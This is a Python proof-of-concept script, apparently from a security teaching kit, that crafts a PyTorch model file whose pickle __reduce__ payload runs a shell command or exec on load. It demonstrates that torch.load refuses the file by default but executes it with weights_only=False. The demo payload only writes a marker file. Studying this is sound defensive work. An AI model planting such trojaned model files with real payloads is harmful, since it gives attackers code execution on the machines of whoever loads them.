"""Attack: a model file that runs a command the moment somebody loads it.

    python create_malicious_model.py           writes malicious_model.pt
    python create_malicious_model.py attack    loads it: first as PyTorch does today, then as people used to

The command is harmless: it prints one line and writes a marker file, nothing else.
"""

from __future__ import annotations

import io
import os
import pickle
import shlex
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

import cli
from safe_loading import why_refused

MODEL = Path("malicious_model.pt")
MARKER = Path("/tmp/pwned_by_pickle.txt")
SHELL = Path("/bin/sh")
MESSAGE = "This code ran because a model file was loaded."


class Payload:
    """An object that pickles as "call this function with these arguments"."""

    def __init__(self, function: Callable[..., Any], argument: str) -> None:
        self.call = function, (argument,)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        # The whole attack is this line: pickle calls what __reduce__ returns, with no question asked.
        return self.call


def shell_payload(marker: Path) -> Payload:
    """A payload for os.system: a shell command that writes the marker and prints one line."""
    command = f"echo '{MESSAGE}' > {shlex.quote(str(marker))}; echo '    >>> {MESSAGE} <<<'"
    return Payload(os.system, command)


def python_payload(marker: Path) -> Payload:
    """The same for images that have no shell: exec runs Python text. No shell is no defence."""
    code = (
        f"open({str(marker)!r}, 'w').write({MESSAGE + chr(10)!r}); print('    >>> {MESSAGE} <<<', flush=True)"
    )
    return Payload(exec, code)


def malicious_bytes(marker: Path) -> bytes:
    """The bytes of a model file whose payload writes `marker` (the same bytes each time)."""
    payload = shell_payload(marker) if SHELL.exists() else python_payload(marker)
    file = io.BytesIO()
    torch.save(payload, file)
    return file.getvalue()


def clear_marker(marker: Path) -> None:
    """Remove the marker of an earlier run, but never a file that this demo did not write."""
    there = marker.is_symlink() or marker.exists()
    ours = marker.is_file() and not marker.is_symlink() and MESSAGE in marker.read_text(errors="replace")
    if there and not ours:
        raise cli.UserError(f"{marker} exists and is not ours: choose another place with --marker.")
    try:
        marker.touch()
        marker.unlink()
    except OSError as error:
        raise cli.UserError(
            f"Cannot write {marker} ({error.strerror}): choose another place with --marker."
        ) from error


def create(model: Path, marker: Path) -> None:
    """Write the malicious model file."""
    with cli.whole_file(model) as path:
        path.write_bytes(malicious_bytes(marker))


def attack(model: Path, marker: Path, out: cli.Out) -> int:
    """Load the file twice and show the marker before and after. Returns 0 if the attack worked."""
    clear_marker(marker)
    if not model.is_file() or model.read_bytes() != malicious_bytes(marker):
        # only ever run our own payload, whatever lies there under this name
        create(model, marker)
        out.say(f"Wrote {model}: it holds our harmless payload and nothing else.")
    if not SHELL.exists():
        out.say(
            "There is no shell here, so the payload is Python text for exec, not a command for os.system."
        )

    out.heading("1. Before")
    out.say(f"{marker} exists: {marker.exists()}")

    out.heading("2. torch.load(file): today's default, weights_only=True")
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.load(model)
        out.say("NOT refused: TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD is set here and switches the default off.")
    except pickle.UnpicklingError as error:
        out.say(f"Refused: {why_refused(error) or error}.", "green")
    out.say(f"{marker} exists: {marker.exists()}")

    out.heading("3. torch.load(file, weights_only=False): the default before PyTorch 2.6")
    out.say("We only load the file. We call nothing that comes out of it.")
    loaded = torch.load(model, weights_only=False)
    out.say(f"torch.load came back with {loaded!r}: that is no model, that is what the command returned.")

    out.heading("4. After")
    out.say(f"{marker} exists: {marker.exists()}", "bold red")
    if not marker.exists():
        out.say("The attack did not work on this machine: the command ran, but it left no marker.")
        return cli.FINDING
    out.say(f"It says: {marker.read_text().strip()}")
    out.say("Loading was enough: a pickle is a program, and weights_only=False runs it as you.")
    return cli.OK


def main() -> int:
    """Read the command line, create or attack."""
    arguments = cli.parser(__doc__)
    arguments.add_argument(
        "action", nargs="?", default="create", choices=["create", "attack"], help="what to do"
    )
    arguments.add_argument("--model", type=Path, default=MODEL, help="the malicious model file")
    arguments.add_argument("--marker", type=Path, default=MARKER, help="the file that the payload writes")
    args = arguments.parse_args()
    out = cli.Out(args.plain)
    marker = args.marker.absolute()
    if args.action == "attack":
        return attack(args.model, marker, out)
    create(args.model, marker)
    out.say(f"Wrote {args.model} ({args.model.stat().st_size} bytes). It looks like any other model file.")
    out.say(f"Whoever loads it with weights_only=False runs our command, which writes {marker}.")
    out.say("Now type: python create_malicious_model.py attack")
    return cli.OK


if __name__ == "__main__":
    cli.run(main)
